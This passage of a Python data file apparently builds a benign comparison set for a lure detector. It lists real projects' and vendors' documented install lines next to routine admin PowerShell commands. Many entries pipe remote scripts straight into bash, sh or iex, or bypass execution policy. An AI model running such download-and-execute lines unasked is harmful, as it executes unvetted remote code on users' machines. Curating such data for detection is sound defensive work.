        "dee4787866eb",
        "e2b31780584f",
        "e3ab815043b1",
        "e4a217cb86db",
        "e69e26ed5d25",
        "e6c68431d1d2",
        "e8c30e927f47",
        "e8d1b6b0a56d",
        "e97d485bde14",
        "e9a5ea752fa1",
        "eaec06575d66",
        "eb28360ae7fe",
        "ec1ba4c6c32b",
        "ee5026b6dd65",
        "ee8043913b21",
        "eef4d0dd05bd",
        "ef4a8a2f4b04",
        "f11b07c82bb6",
        "f12c8b27f7d8",
        "f20bb59b2a8e",
        "f26ad9da426c",
        "f8efe4600615",
        "f9373c5f2658",
        "fb81a36d56d4",
        "fc0d00afbef8",
        "fc4d1deed191",
        "fc93ea30d4b2",
        "fe9b4e722a00",
    }
)

GH = "https://github.com/"

# Real projects' documented install lines, each from its own page (found in public README files by
# the search strings listed in the README section; none of these projects is in sets 1-21).
OWN_PAGE: list[tuple[str, str]] = [
    (
        GH + "d3vw/nft-ui",
        "curl -fsSL https://raw.githubusercontent.com/d3vw/nft-ui/main/install.sh | sudo bash",
    ),
    (
        GH + "d3vw/nft-ui",
        "curl -fsSL https://raw.githubusercontent.com/d3vw/nft-ui/dev/install.sh | sudo bash -s -- --beta",
    ),
    (
        GH + "Jefter5549/mihomoctl",
        "curl -fsSL https://cdn.jsdelivr.net/gh/Jefter5549/mihomoctl@master/install.sh | sudo bash -s -- --remove",
    ),
    (
        GH + "nobodycp/recharge-desk",
        "curl -fsSL https://raw.githubusercontent.com/nobodycp/recharge-desk/main/scripts/remote-install.sh | sudo bash -s -- \\\n  'https://github.com/nobodycp/recharge-desk.git' \\\n  's.prosim.ps' \\\n  'YOUR_POSTGRES_APP_PASSWORD'",
    ),
    (
        GH + "sheinices/crabindex",
        "curl -fsSL https://raw.githubusercontent.com/sheinices/crabindex/main/scripts/install.sh | sudo bash -s -- --flaresolverr",
    ),
    (
        GH + "Ryoya15/ibus-monitor",
        "wget -qO- https://github.com/Ryoya15/ibus-monitor/raw/refs/heads/main/install.sh | sudo bash -s -- uninstall",
    ),
    (
        GH + "HuxerUI/HuxerUI",
        "curl -fsSL https://github.com/HuxerUI/HuxerUI/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "HuxerUI/HuxerUI",
        "irm https://github.com/HuxerUI/HuxerUI/releases/latest/download/install.ps1 | iex",
    ),
    (
        GH + "Cd1s/ssm",
        "curl -fsSL https://github.com/Cd1s/ssm/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "nsjminecraft/DeCoupled-AI",
        "curl -sSfL https://github.com/nsjminecraft/DeCoupled-AI/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "newrelic/ground-truth-cli-releases/releases",
        "curl -fsSL https://github.com/newrelic/ground-truth-cli-releases/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "newrelic/ground-truth-cli-releases/releases",
        "irm https://github.com/newrelic/ground-truth-cli-releases/releases/latest/download/install.ps1 | iex",
    ),
    (
        GH + "nklisch/theatre",
        "curl -LsSf https://github.com/nklisch/theatre/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "tipsy-kereru/mnemosyne",
        "curl -fsSL https://github.com/tipsy-kereru/mnemosyne/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "SeanCheatham/scuzz",
        "curl -fsSL https://github.com/SeanCheatham/scuzz/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "shanmukh05/trisynapse-memory",
        "curl -LsSf https://github.com/shanmukh05/trisynapse-memory/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "shanmukh05/trisynapse-memory",
        "irm https://github.com/shanmukh05/trisynapse-memory/releases/latest/download/install.ps1 | iex",
    ),
    (
        GH + "gclinian/smurg",
        "curl -fsSL https://github.com/gclinian/smurg/releases/latest/download/install.sh | sh",
    ),
    (
        GH + "deploy-monster/deploy-monster",
        "curl -fsSL https://raw.githubusercontent.com/deploy-monster/deploy-monster/v0.0.1/scripts/install.sh | bash -s -- --version=v0.0.1",
    ),
    (
        GH + "portworld/PortWorld",
        "curl -fsSL --proto '=https' --tlsv1.2 https://raw.githubusercontent.com/portworld/PortWorld/main/install.sh | bash -s -- --version v<version>",
    ),
    (
        GH + "spencerjireh/goingenv",
        "curl -sSL https://raw.githubusercontent.com/spencerjireh/goingenv/main/install.sh | bash -s -- --version <tag>",
    ),
    (
        GH + "jackkweyunga/docker-setup",
        "curl -fsSL https://raw.githubusercontent.com/jackkweyunga/docker-setup/main/install.sh | bash -s -- --version 1.1.2",
    ),
    (
        GH + "exegia/homebrew-corpora",
        "curl -fsSL https://raw.githubusercontent.com/exegia/homebrew-corpora/main/install.sh | bash -s -- --version vX.Y.Z",
    ),
    (
        GH + "exegia/homebrew-corpora",
        "curl -fsSL https://raw.githubusercontent.com/exegia/homebrew-corpora/main/install.sh | bash -s -- --uninstall",
    ),
    (
        GH + "wecode-ai/Wegent",
        "curl -fsSL https://github.com/wecode-ai/Wegent/releases/download/v1.0.0/local_executor_install.sh | bash -s -- --version v1.0.0",
    ),
    (
        GH + "maxbaines/agent-remote",
        "curl -fsSL https://raw.githubusercontent.com/maxbaines/agent-remote/main/install.sh | bash",
    ),
    (
        GH + "MichielDean/LLMem",
        "curl -sSL https://raw.githubusercontent.com/MichielDean/LLMem/main/setup.sh | bash",
    ),
    (
        GH + "adlee-was-taken/stegasoo",
        "curl -sSL https://raw.githubusercontent.com/adlee-was-taken/stegasoo/main/rpi/setup.sh | bash",
    ),
    (
        GH + "sreedhargs89/context-keeper",
        "curl -sSL https://raw.githubusercontent.com/sreedhargs89/context-keeper/main/install.sh | bash",
    ),
    (
        GH + "tringuyenbmt123/do-an-tot-nghiep",
        "curl -sSL https://raw.githubusercontent.com/tringuyenbmt123/do-an-tot-nghiep/main/install-server.sh | sudo bash",
    ),
    (
        GH + "Malte-Dzierzon/dotfiles",
        "curl -fsSL https://raw.githubusercontent.com/Malte-Dzierzon/dotfiles/main/scripts/bootstrap.sh | bash",
    ),
    (
        GH + "eightmm/slurm-gpu-tui",
        "curl -fsSL https://raw.githubusercontent.com/eightmm/slurm-gpu-tui/main/bootstrap.sh | bash",
    ),
    (
        GH + "tjsoho/summer-website-template",
        "curl -fsSL https://raw.githubusercontent.com/tjsoho/summer-website-template/main/bootstrap.sh | bash -s my-site",
    ),
    (
        GH + "koolamusic/claudefiles",
        "curl -fsSL https://raw.githubusercontent.com/koolamusic/claudefiles/main/bootstrap.sh | bash",
    ),
    (
        GH + "ai-janitor/minion-swarm",
        "curl -fsSL https://raw.githubusercontent.com/ai-janitor/minion-swarm/main/bootstrap.sh | bash",
    ),
    (
        GH + "Wan-ZL/zelin-ai-assistant",
        "curl -fsSL https://raw.githubusercontent.com/Wan-ZL/zelin-ai-assistant/main/scripts/bootstrap.sh | bash",
    ),
    (
        GH + "gvanderberg/k8s-on-raspberrypi",
        "curl -sLSf https://raw.githubusercontent.com/gvanderberg/k8s-on-raspberrypi/master/scripts/setup.sh | sudo sh",
    ),
    (
        GH + "TurboLabIt/zzupdate",
        "curl -s https://raw.githubusercontent.com/TurboLabIt/zzupdate/master/setup.sh | sudo sh",
    ),
    (
        GH + "ophum/prob",
        "curl https://raw.githubusercontent.com/ophum/prob/main/01/setup.sh | sudo sh",
    ),
    (GH + "munlucky/moonshot-relay", "npx -y github:munlucky/moonshot-relay install"),
    (
        GH + "topline-com/os-mcp",
        'claude mcp add topline -s user \\\n  -e TOPLINE_PIT=pit-xxxxxxxx \\\n  -e TOPLINE_LOCATION_ID=xxxxxxxx \\\n  -e TOPLINE_BRAND_NAME="Topline OS" \\\n  -- npx -y github:topline-com/os-mcp',
    ),
    (GH + "yugasun/aiops", "npx -y github:yugasun/aiops --all"),
    (
        GH + "faisalBS23/testing-automation-agent",
        "npx -y github:faisalBS23/testing-automation-agent --global",
    ),
    (GH + "conbon/claude-ping", "claude mcp add claude-ping -- npx -y github:conbon/claude-ping"),
    (
        GH + "pauloFroes/mcp-pandavideo",
        "claude mcp add pandavideo -s user \\\n  -e PANDAVIDEO_API_KEY=your-key \\\n  -- npx -y github:pauloFroes/mcp-pandavideo",
    ),
    (GH + "macleodlabs-ai/teamflow-plugin", "npx -y github:macleodlabs-ai/teamflow-plugin status"),
    (GH + "drogers0/gh-image", "gh extension install drogers0/gh-image"),
    (
        "https://gitee.com/aiweline/WelineFramework",
        "curl -fsSL https://gitee.com/aiweline/WelineFramework/raw/master/bin/bootstrap.sh | bash -s --",
    ),
    ("https://objectstack.ai/", "curl -fsSL https://objectstack.ai/install.sh | sh"),
    (
        "https://objectstack.ai/",
        "curl -fsSL https://objectstack.ai/apt/setup.sh | sudo sh\nsudo apt install objectstack",
    ),
    (GH + "khawkins98/hush", "brew install --cask --no-quarantine khawkins98/tap/hush"),
    (
        GH + "hasugoii/antikit",
        "curl -fsSL https://raw.githubusercontent.com/hasugoii/antikit/main/install.sh | sh",
    ),
    (
        GH + "hasugoii/antikit",
        'iex "& { $(irm https://raw.githubusercontent.com/hasugoii/antikit/main/install.ps1) }"',
    ),
    (
        GH + "mohrcon/killswitch",
        "curl -fsSL https://raw.githubusercontent.com/mohrcon/killswitch/main/install.sh | zsh",
    ),
    (
        GH + "schmoli/macos-setup",
        "curl -fsSL https://raw.githubusercontent.com/schmoli/macos-setup/main/install.sh | zsh",
    ),
    (
        GH + "intellisys-informatica/devhub",
        "curl -fsSL https://raw.githubusercontent.com/intellisys-informatica/devhub/main/docs/ambiente/reactjs/assets/install.sh | zsh",
    ),
    (
        GH + "angiestran/parlissima",
        "curl -fsSL https://raw.githubusercontent.com/angiestran/parlissima/main/install.sh | zsh",
    ),
    (
        "https://codeberg.org/NiXOA/system",
        'bash <(curl -fsSL https://codeberg.org/NiXOA/system/raw/branch/beta/scripts/bootstrap.sh) \\\n  --hostname nixoa \\\n  --username xoa \\\n  --ssh-key "$(cat ~/.ssh/id_ed25519.pub)" \\\n  --first-switch',
    ),
    (
        "https://codeberg.org/Mind-Dragon/BridgeSessions",
        "curl -fsSL https://codeberg.org/Mind-Dragon/BridgeSessions/raw/tag/v2.0.9-alpha5/scripts/install.sh | bash",
    ),
    (
        "https://codeberg.org/ideumi/chip-go",
        "curl -fsSL https://codeberg.org/ideumi/chip-go/raw/branch/main/scripts/net-install.sh | sh",
    ),
    (
        "https://codeberg.org/greenseer/ovenmitts",
        "curl -fsSL https://codeberg.org/greenseer/ovenmitts/raw/branch/main/install.sh | bash\novenmitts --version",
    ),
    (
        "https://codeberg.org/0xShred/linuxroam-ch",
        "curl -fsSL https://codeberg.org/0xShred/linuxroam-ch/raw/branch/main/install.sh | bash",
    ),
    (
        "https://codeberg.org/langurmonkey/langur-agent",
        "curl -fsSL https://codeberg.org/langurmonkey/langur-agent/raw/branch/main/install.sh | bash",
    ),
    (
        "https://zca-cli.dev/",
        'iex "& { $(irm https://get.zca-cli.dev/install.ps1) } -Version v1.0.0"',
    ),
    (GH + "vcmi/vcmi", "brew install --cask --no-quarantine vcmi/vcmi/vcmi"),
    (
        GH + "onflow/flow-cli",
        "iex \"& { $(irm 'https://raw.githubusercontent.com/onflow/flow-cli/master/install.ps1') }\"",
    ),
    (
        GH + "dropseed/barrel",
        "curl -sSL https://raw.githubusercontent.com/dropseed/barrel/master/barrel/install.py | python3 - <package_name>",
    ),
    (
        GH + "PittsCraft/control-surface",
        "curl -fsSL https://raw.githubusercontent.com/PittsCraft/control-surface/main/install.py | python3 -",
    ),
    (
        GH + "Bugsterapp/bugster-cli",
        "curl -sSL https://raw.githubusercontent.com/Bugsterapp/bugster-cli/main/scripts/install.py | python3 - --version VERSION",
    ),
    (
        GH + "Sarks0/binary-mcp",
        "curl -fsSL https://raw.githubusercontent.com/Sarks0/binary-mcp/main/install.py | python3 -",
    ),
    (
        GH + "Sarks0/binary-mcp",
        "irm https://raw.githubusercontent.com/Sarks0/binary-mcp/main/install.ps1 | iex",
    ),
    (
        GH + "catppuccin/gnome-terminal",
        "curl -L https://raw.githubusercontent.com/catppuccin/gnome-terminal/main/install.py | python3 -",
    ),
    (
        "https://gitlab.com/TenTypekMatus/tokyonight-dots",
        "curl -fsSL https://gitlab.com/TenTypekMatus/tokyonight-dots/-/raw/main/install.sh | bash",
    ),
    (
        "https://gitlab.com/gitlab-org/rust/knowledge-graph",
        "curl -fsSL https://gitlab.com/gitlab-org/rust/knowledge-graph/-/raw/main/install.sh | bash",
    ),
    (
        "https://gitlab.com/dotfiles30/comma_files",
        'bash -c "$(curl -fsSL https://gitlab.com/dotfiles30/comma_files/-/raw/main/bin/dotfiles.sh)"',
    ),
    (
        "https://praxis.originhq.com/",
        "PRAXIS_REMOVE_DATA=1 curl -fsSL https://praxis.originhq.com/install.sh | bash -s -- --remove",
    ),
    (
        "https://praxis.originhq.com/",
        'iex "& { $(irm https://praxis.originhq.com/install.ps1) } -Remove"',
    ),
]

# Vendors' own download-and-run lines, each from the vendor's own documentation page (close to
# lures: remote scripts, msiexec with a URL, a downloaded installer started at once).
VENDOR: list[tuple[str, str]] = [
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"\nunzip awscliv2.zip\nsudo ./aws/install',
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-windows",
        "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://aka.ms/installazurecliwindowsx64 -OutFile .\\AzureCLI.msi; Start-Process msiexec.exe -Wait -ArgumentList '/I AzureCLI.msi /quiet'; Remove-Item .\\AzureCLI.msi",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-linux",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
        'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"',
    ),
    (
        "https://learn.microsoft.com/en-us/autopilot/add-devices",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\nInstall-Script -Name Get-WindowsAutopilotInfo -Force\nSet-ExecutionPolicy -Scope Process -ExecutionPolicy RemoteSigned\nGet-WindowsAutopilotInfo -Online",
    ),
    (
        "https://cloud.google.com/sdk/docs/install",
        '(New-Object Net.WebClient).DownloadFile("https://dl.google.com/dl/cloudsdk/channels/rapid/GoogleCloudSDKInstaller.exe", "$env:Temp\\GoogleCloudSDKInstaller.exe")\n\n& $env:Temp\\GoogleCloudSDKInstaller.exe',
    ),
    (
        "https://cloud.google.com/sdk/docs/downloads-interactive",
        "curl https://sdk.cloud.google.com | bash",
    ),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh ./get-docker.sh --dry-run",
    ),
    (
        "https://python-poetry.org/docs/",
        "(Invoke-WebRequest -Uri https://install.python-poetry.org -UseBasicParsing).Content | py -",
    ),
    (
        "https://pnpm.io/installation",
        "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression",
    ),
    (
        "https://fly.io/docs/flyctl/install/",
        'pwsh -Command "iwr https://fly.io/install.ps1 -useb | iex"',
    ),
    (
        "https://docs.deno.com/runtime/getting_started/installation/",
        "irm https://deno.land/install.ps1 | iex",
    ),
    (
        "https://docs.k3s.io/quick-start",
        "curl -sfL https://get.k3s.io | K3S_URL=https://myserver:6443 K3S_TOKEN=mynodetoken sh -",
    ),
    ("https://www.pulumi.com/docs/iac/download-install/", "curl -fsSL https://get.pulumi.com | sh"),
    (
        "https://www.pulumi.com/docs/iac/download-install/",
        '@"%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -InputFormat None -ExecutionPolicy Bypass -Command "[Net.ServicePointManager]::SecurityProtocol = \'tls12\'; iex ((New-Object System.Net.WebClient).DownloadString(\'https://get.pulumi.com/install.ps1\'))" && SET "PATH=%PATH%;%USERPROFILE%\\.pulumi\\bin"',
    ),
    ("https://julialang.org/install/", "curl -fsSL https://install.julialang.org | sh"),
    ("https://rvm.io/rvm/install", "\\curl -sSL https://get.rvm.io | bash -s stable --ruby"),
    (
        "https://www.haskell.org/ghcup/",
        "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
    ),
    (
        "https://docs.haskellstack.org/en/stable/install_and_upgrade/",
        "wget -qO- https://get.haskellstack.org/ | sh",
    ),
    ("https://mise.jdx.dev/getting-started.html", "curl https://mise.run | sh"),
    ("https://christitus.com/windows-tool/", "irm https://christitus.com/win | iex"),
    (
        "https://coder.com/docs/code-server/install",
        "curl -fsSL https://code-server.dev/install.sh | sh -s -- --dry-run",
    ),
    (
        "https://www.jetify.com/docs/devbox/installing_devbox",
        "curl -fsSL https://get.jetify.com/devbox | bash",
    ),
    (
        "https://tailscale.com/kb/1031/install-linux",
        "curl -fsSL https://tailscale.com/install.sh | sh && sudo tailscale up --ssh",
    ),
    (
        "https://ollama.com/download/linux",
        "curl -fsSL https://ollama.com/install.sh | OLLAMA_VERSION=0.9.6 sh",
    ),
    (
        "https://support.1password.com/install-linux/",
        "curl -sS https://downloads.1password.com/linux/keys/1password.asc | sudo gpg --dearmor --output /usr/share/keyrings/1password-archive-keyring.gpg",
    ),
    (
        "https://www.teamviewer.com/en/download/linux/",
        "wget https://download.teamviewer.com/download/linux/teamviewer_amd64.deb\nsudo apt install ./teamviewer_amd64.deb",
    ),
    (
        "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0060447",
        "msiexec /i ZoomInstallerFull.msi /quiet /qn /norestart ZoomAutoUpdate=1",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoftteams/teams-client-bulk-install",
        'teamsbootstrapper.exe -p -o "c:\\path\\to\\MSTeams-x64.msix"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/",
        "winget install --id Microsoft.PowerToys --source winget --accept-package-agreements",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/sysmon",
        "sysmon64.exe -accepteula -i sysmonconfig-export.xml",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/run-analyzer-windows",
        "Invoke-WebRequest -Uri https://aka.ms/MDEAnalyzer -OutFile MDEClientAnalyzerPreview.zip; Expand-Archive MDEClientAnalyzerPreview.zip -DestinationPath .\\MDEAnalyzer; .\\MDEAnalyzer\\MDEClientAnalyzer.cmd",
    ),
    (
        "https://docs.crowdstrike.com/r/falcon-sensor-windows",
        "WindowsSensor.exe /install /quiet /norestart CID=<your-CID>",
    ),
    (
        "https://help.okta.com/en-us/content/topics/identity-engine/devices/ov-install-windows.htm",
        "msiexec /i OktaVerifySetup.msi /qn SKU=ALL ORG_URL=https://yourorg.okta.com",
    ),
    (
        "https://docs.nvidia.com/cuda/cuda-installation-guide-linux/",
        "wget https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2404/x86_64/cuda-keyring_1.1-1_all.deb\nsudo dpkg -i cuda-keyring_1.1-1_all.deb\nsudo apt-get update\nsudo apt-get -y install cuda-toolkit-12-9",
    ),
    (
        "https://www.citrix.com/downloads/workspace-app/linux/",
        "sudo dpkg -i icaclient_25.05.0.44_amd64.deb",
    ),
    (
        "https://docs.gitlab.com/runner/install/linux-repository/",
        'curl -L "https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh" | sudo bash',
    ),
    (
        "https://grafana.com/docs/alloy/latest/set-up/install/linux/",
        "sudo mkdir -p /etc/apt/keyrings/\nwget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null",
    ),
    (
        "https://docs.datadoghq.com/agent/basic_agent_usage/windows/",
        'Start-Process -Wait msiexec -ArgumentList \'/qn /i "https://s3.amazonaws.com/ddagent-windows-stable/datadog-agent-7-latest.amd64.msi" APIKEY="<DATADOG_API_KEY>" SITE="datadoghq.com"\'',
    ),
    (
        "https://docs.datadoghq.com/agent/basic_agent_usage/ubuntu/",
        'DD_API_KEY=<DATADOG_API_KEY> DD_SITE="datadoghq.com" bash -c "$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)"',
    ),
    (
        "https://docs.newrelic.com/docs/new-relic-solutions/tutorials/new-relic-cli/",
        "curl -Ls https://download.newrelic.com/install/newrelic-cli/scripts/install.sh | bash && sudo NEW_RELIC_API_KEY=<KEY> NEW_RELIC_ACCOUNT_ID=<ID> /usr/local/bin/newrelic install",
    ),
    ("https://docs.sentry.io/cli/installation/", "curl -sL https://sentry.io/get-cli/ | sh"),
    (
        "https://docs.brew.sh/Installation",
        'NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "https://www.rust-lang.org/tools/install",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --default-toolchain nightly",
    ),
]


def build_benign() -> list[Benign]:
    B: list[Benign] = []

    def add(kind: str, target: str, source: str | None, text: str) -> None:
        B.append((kind, target, source, text))

    for page, text in OWN_PAGE:
        add(OWN, TERM, page, text)
    for page, text in VENDOR:
        add("vendor-install-own-page", TERM, page, text)

    # --- admin PowerShell (terminal) ---------------------------------------------------------------
    LEARN = "https://learn.microsoft.com/en-us/powershell/module/"
    PS = [
        (
            "microsoft.powershell.management/get-service",
            "Get-Service | Where-Object {$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'}",
        ),
        (
            "microsoft.powershell.management/restart-service",
            "Restart-Service -Name Spooler -Force -Verbose",
        ),
        (
            "microsoft.powershell.diagnostics/get-winevent",
            "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddDays(-1)} | Select-Object TimeCreated, Id, ProviderName, Message -First 20",
        ),
        (
            "microsoft.powershell.management/get-childitem",
            "Get-ChildItem -Path C:\\Users\\*\\Downloads -Recurse -File | Where-Object Length -gt 500MB | Sort-Object Length -Descending",
        ),
        (
            "nettcpip/test-netconnection",
            "Test-NetConnection -ComputerName sql01.corp.local -Port 1433 -InformationLevel Detailed",
        ),
        (
            "activedirectory/get-aduser",
            "Get-ADUser -Filter {Enabled -eq $true -and LastLogonDate -lt $cutoff} -Properties LastLogonDate | Export-Csv stale-users.csv -NoTypeInformation",
        ),
        (
            "activedirectory/unlock-adaccount",
            "Unlock-ADAccount -Identity jsmith; Get-ADUser jsmith -Properties LockedOut | Select-Object Name, LockedOut",
        ),
        (
            "microsoft.powershell.security/set-executionpolicy",
            "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
        ),
        (
            "powershellget/install-module",
            "Install-Module -Name Microsoft.Graph -Scope CurrentUser -Repository PSGallery -Force",
        ),
        (
            "microsoft.graph.authentication/connect-mggraph",
            'Connect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All" -NoWelcome',
        ),
        (
            "exchange/get-mailbox",
            "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object DisplayName, TotalItemSize -First 25",
        ),
        (
            "exchange/set-mailbox",
            'Set-Mailbox -Identity "finance@contoso.com" -GrantSendOnBehalfTo "asmith","bjones"',
        ),
        (
            "microsoft.powershell.management/get-computerinfo",
            "Get-ComputerInfo -Property OsName, OsVersion, OsBuildNumber, CsManufacturer, CsModel, BiosSMBIOSBIOSVersion",
        ),
        (
            "storage/get-volume",
            "Get-Volume | Where-Object DriveLetter | Select-Object DriveLetter, FileSystemLabel, @{n='FreeGB';e={[math]::Round($_.SizeRemaining/1GB,1)}}, @{n='SizeGB';e={[math]::Round($_.Size/1GB,1)}}",
        ),
        (
            "netsecurity/new-netfirewallrule",
            'New-NetFirewallRule -DisplayName "Allow RDP from mgmt" -Direction Inbound -Protocol TCP -LocalPort 3389 -RemoteAddress 10.20.0.0/16 -Action Allow',
        ),
        (
            "defender/get-mpcomputerstatus",
            "Get-MpComputerStatus | Select-Object AMServiceEnabled, AntivirusEnabled, RealTimeProtectionEnabled, AntivirusSignatureLastUpdated",
        ),
        ("defender/update-mpsignature", "Update-MpSignature -UpdateSource MicrosoftUpdateServer"),
        (
            "microsoft.powershell.management/get-process",
            "Get-Process | Sort-Object WorkingSet64 -Descending | Select-Object -First 10 Name, Id, @{n='MB';e={[int]($_.WorkingSet64/1MB)}}",
        ),
        (
            "microsoft.powershell.utility/invoke-restmethod",
            "Invoke-RestMethod -Uri 'https://api.github.com/repos/PowerShell/PowerShell/releases/latest' | Select-Object tag_name, published_at",
        ),
        (
            "microsoft.powershell.utility/invoke-webrequest",
            "Invoke-WebRequest -Uri https://download.sysinternals.com/files/ProcessMonitor.zip -OutFile $env:USERPROFILE\\Downloads\\ProcessMonitor.zip",
        ),
        (
            "microsoft.powershell.archive/expand-archive",
            "Expand-Archive -Path .\\ProcessMonitor.zip -DestinationPath C:\\Tools\\Procmon -Force",
        ),
        (
            "microsoft.powershell.management/rename-computer",
            'Rename-Computer -NewName "LT-FIN-0231" -DomainCredential CORP\\admin.jdoe -Restart',
        ),
        (
            "microsoft.powershell.management/add-computer",
            'Add-Computer -DomainName corp.contoso.com -OUPath "OU=Laptops,OU=Workstations,DC=corp,DC=contoso,DC=com" -Credential (Get-Credential) -Restart',
        ),
        (
            "scheduledtasks/get-scheduledtask",
            "Get-ScheduledTask | Where-Object {$_.TaskPath -notlike '\\Microsoft\\*'} | Select-Object TaskName, State, TaskPath",
        ),
        (
            "microsoft.powershell.security/get-acl",
            "(Get-Acl '\\\\fs01\\Projects\\2026').Access | Format-Table IdentityReference, FileSystemRights, AccessControlType -AutoSize",
        ),
        (
            "dnsclient/clear-dnsclientcache",
            "Clear-DnsClientCache; Resolve-DnsName intranet.contoso.com -Type A",
        ),
        (
            "microsoft.powershell.core/enter-pssession",
            "Enter-PSSession -ComputerName FS01 -Credential CORP\\admin.jdoe",
        ),
        (
            "microsoft.powershell.core/invoke-command",
            "Invoke-Command -ComputerName (Get-Content .\\servers.txt) -ScriptBlock { Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 3 }",
        ),
        (
            "bitlocker/get-bitlockervolume",
            "Get-BitLockerVolume -MountPoint C: | Select-Object MountPoint, VolumeStatus, EncryptionPercentage, ProtectionStatus",
        ),
        (
            "microsoft.powershell.management/get-itemproperty",
            "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion, Publisher | Sort-Object DisplayName",
        ),
        (
            "microsoft.powershell.management/remove-item",
            'Remove-Item -Path "$env:TEMP\\*" -Recurse -Force -ErrorAction SilentlyContinue',
        ),
        (
            "pnpdevice/get-pnpdevice",
            "Get-PnpDevice -PresentOnly | Where-Object Status -ne 'OK' | Format-Table FriendlyName, Class, Status",
        ),
        ("printmanagement/add-printer", 'Add-Printer -ConnectionName "\\\\print01\\HP-3rd-Floor"'),
        (
            "smbshare/get-smbshare",
            "Get-SmbShare | Where-Object Name -notlike '*$' | Get-SmbShareAccess",
        ),
        (
            "hyper-v/get-vm",
            "Get-VM | Where-Object State -eq 'Running' | Select-Object Name, CPUUsage, MemoryAssigned, Uptime",
        ),
        (
            "microsoft.powershell.utility/measure-command",
            "Measure-Command { Get-ChildItem C:\\Windows -Recurse -ErrorAction SilentlyContinue } | Select-Object TotalSeconds",
        ),
        (
            "microsoft.powershell.management/get-ciminstance",
            "Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
        ),
        (
            "microsoft.powershell.utility/convertto-json",
            "Get-Service W32Time | Select-Object Name, Status, StartType | ConvertTo-Json",
        ),
        (
            "appx/get-appxpackage",
            "Get-AppxPackage -AllUsers *Microsoft.WindowsCalculator* | Select-Object Name, Version, PackageFullName",
        ),
        (
            "windowsupdate/get-windowsupdatelog",
            "Get-WindowsUpdateLog -LogPath $env:USERPROFILE\\Desktop\\WindowsUpdate.log",
        ),
        (
            "microsoft.powershell.security/get-authenticodesignature",
            "Get-AuthenticodeSignature -FilePath C:\\Tools\\Procmon\\Procmon64.exe | Format-List Status, SignerCertificate",
        ),
        (
            "microsoft.powershell.utility/get-filehash",
            "Get-FileHash .\\en-us_windows_11_business_editions_version_24h2_x64.iso -Algorithm SHA256",
        ),
        (
            "netadapter/get-netadapter",
            "Get-NetAdapter | Where-Object Status -eq 'Up' | Select-Object Name, InterfaceDescription, LinkSpeed, MacAddress",
        ),
        (
            "nettcpip/get-netipconfiguration",
            "Get-NetIPConfiguration -Detailed | Select-Object InterfaceAlias, IPv4Address, IPv4DefaultGateway, DNSServer",
        ),
        (
            "microsoft.powershell.management/start-process",
            "Start-Process -FilePath 'C:\\Program Files\\Notepad++\\notepad++.exe' -ArgumentList 'C:\\Windows\\System32\\drivers\\etc\\hosts' -Verb RunAs",
        ),
        (
            "dism/repair-windowsimage",
            "Repair-WindowsImage -Online -RestoreHealth -Source D:\\sources\\install.wim:1 -LimitAccess",
        ),
        ("microsoft.powershell.core/get-help", "Get-Help Get-ADComputer -Examples"),
        (
            "azuread/get-azureaduser",
            'Get-MgUser -Filter "accountEnabled eq false" -All | Select-Object DisplayName, UserPrincipalName',
        ),
        (
            "teams/get-csonlineuser",
            'Get-CsOnlineUser -Identity "asmith@contoso.com" | Select-Object DisplayName, EnterpriseVoiceEnabled, LineURI',
        ),
        (
            "sharepoint-online/connect-sposervice",
            "Connect-SPOService -Url https://contoso-admin.sharepoint.com",
        ),
        (
            "microsoft.powershell.utility/select-string",
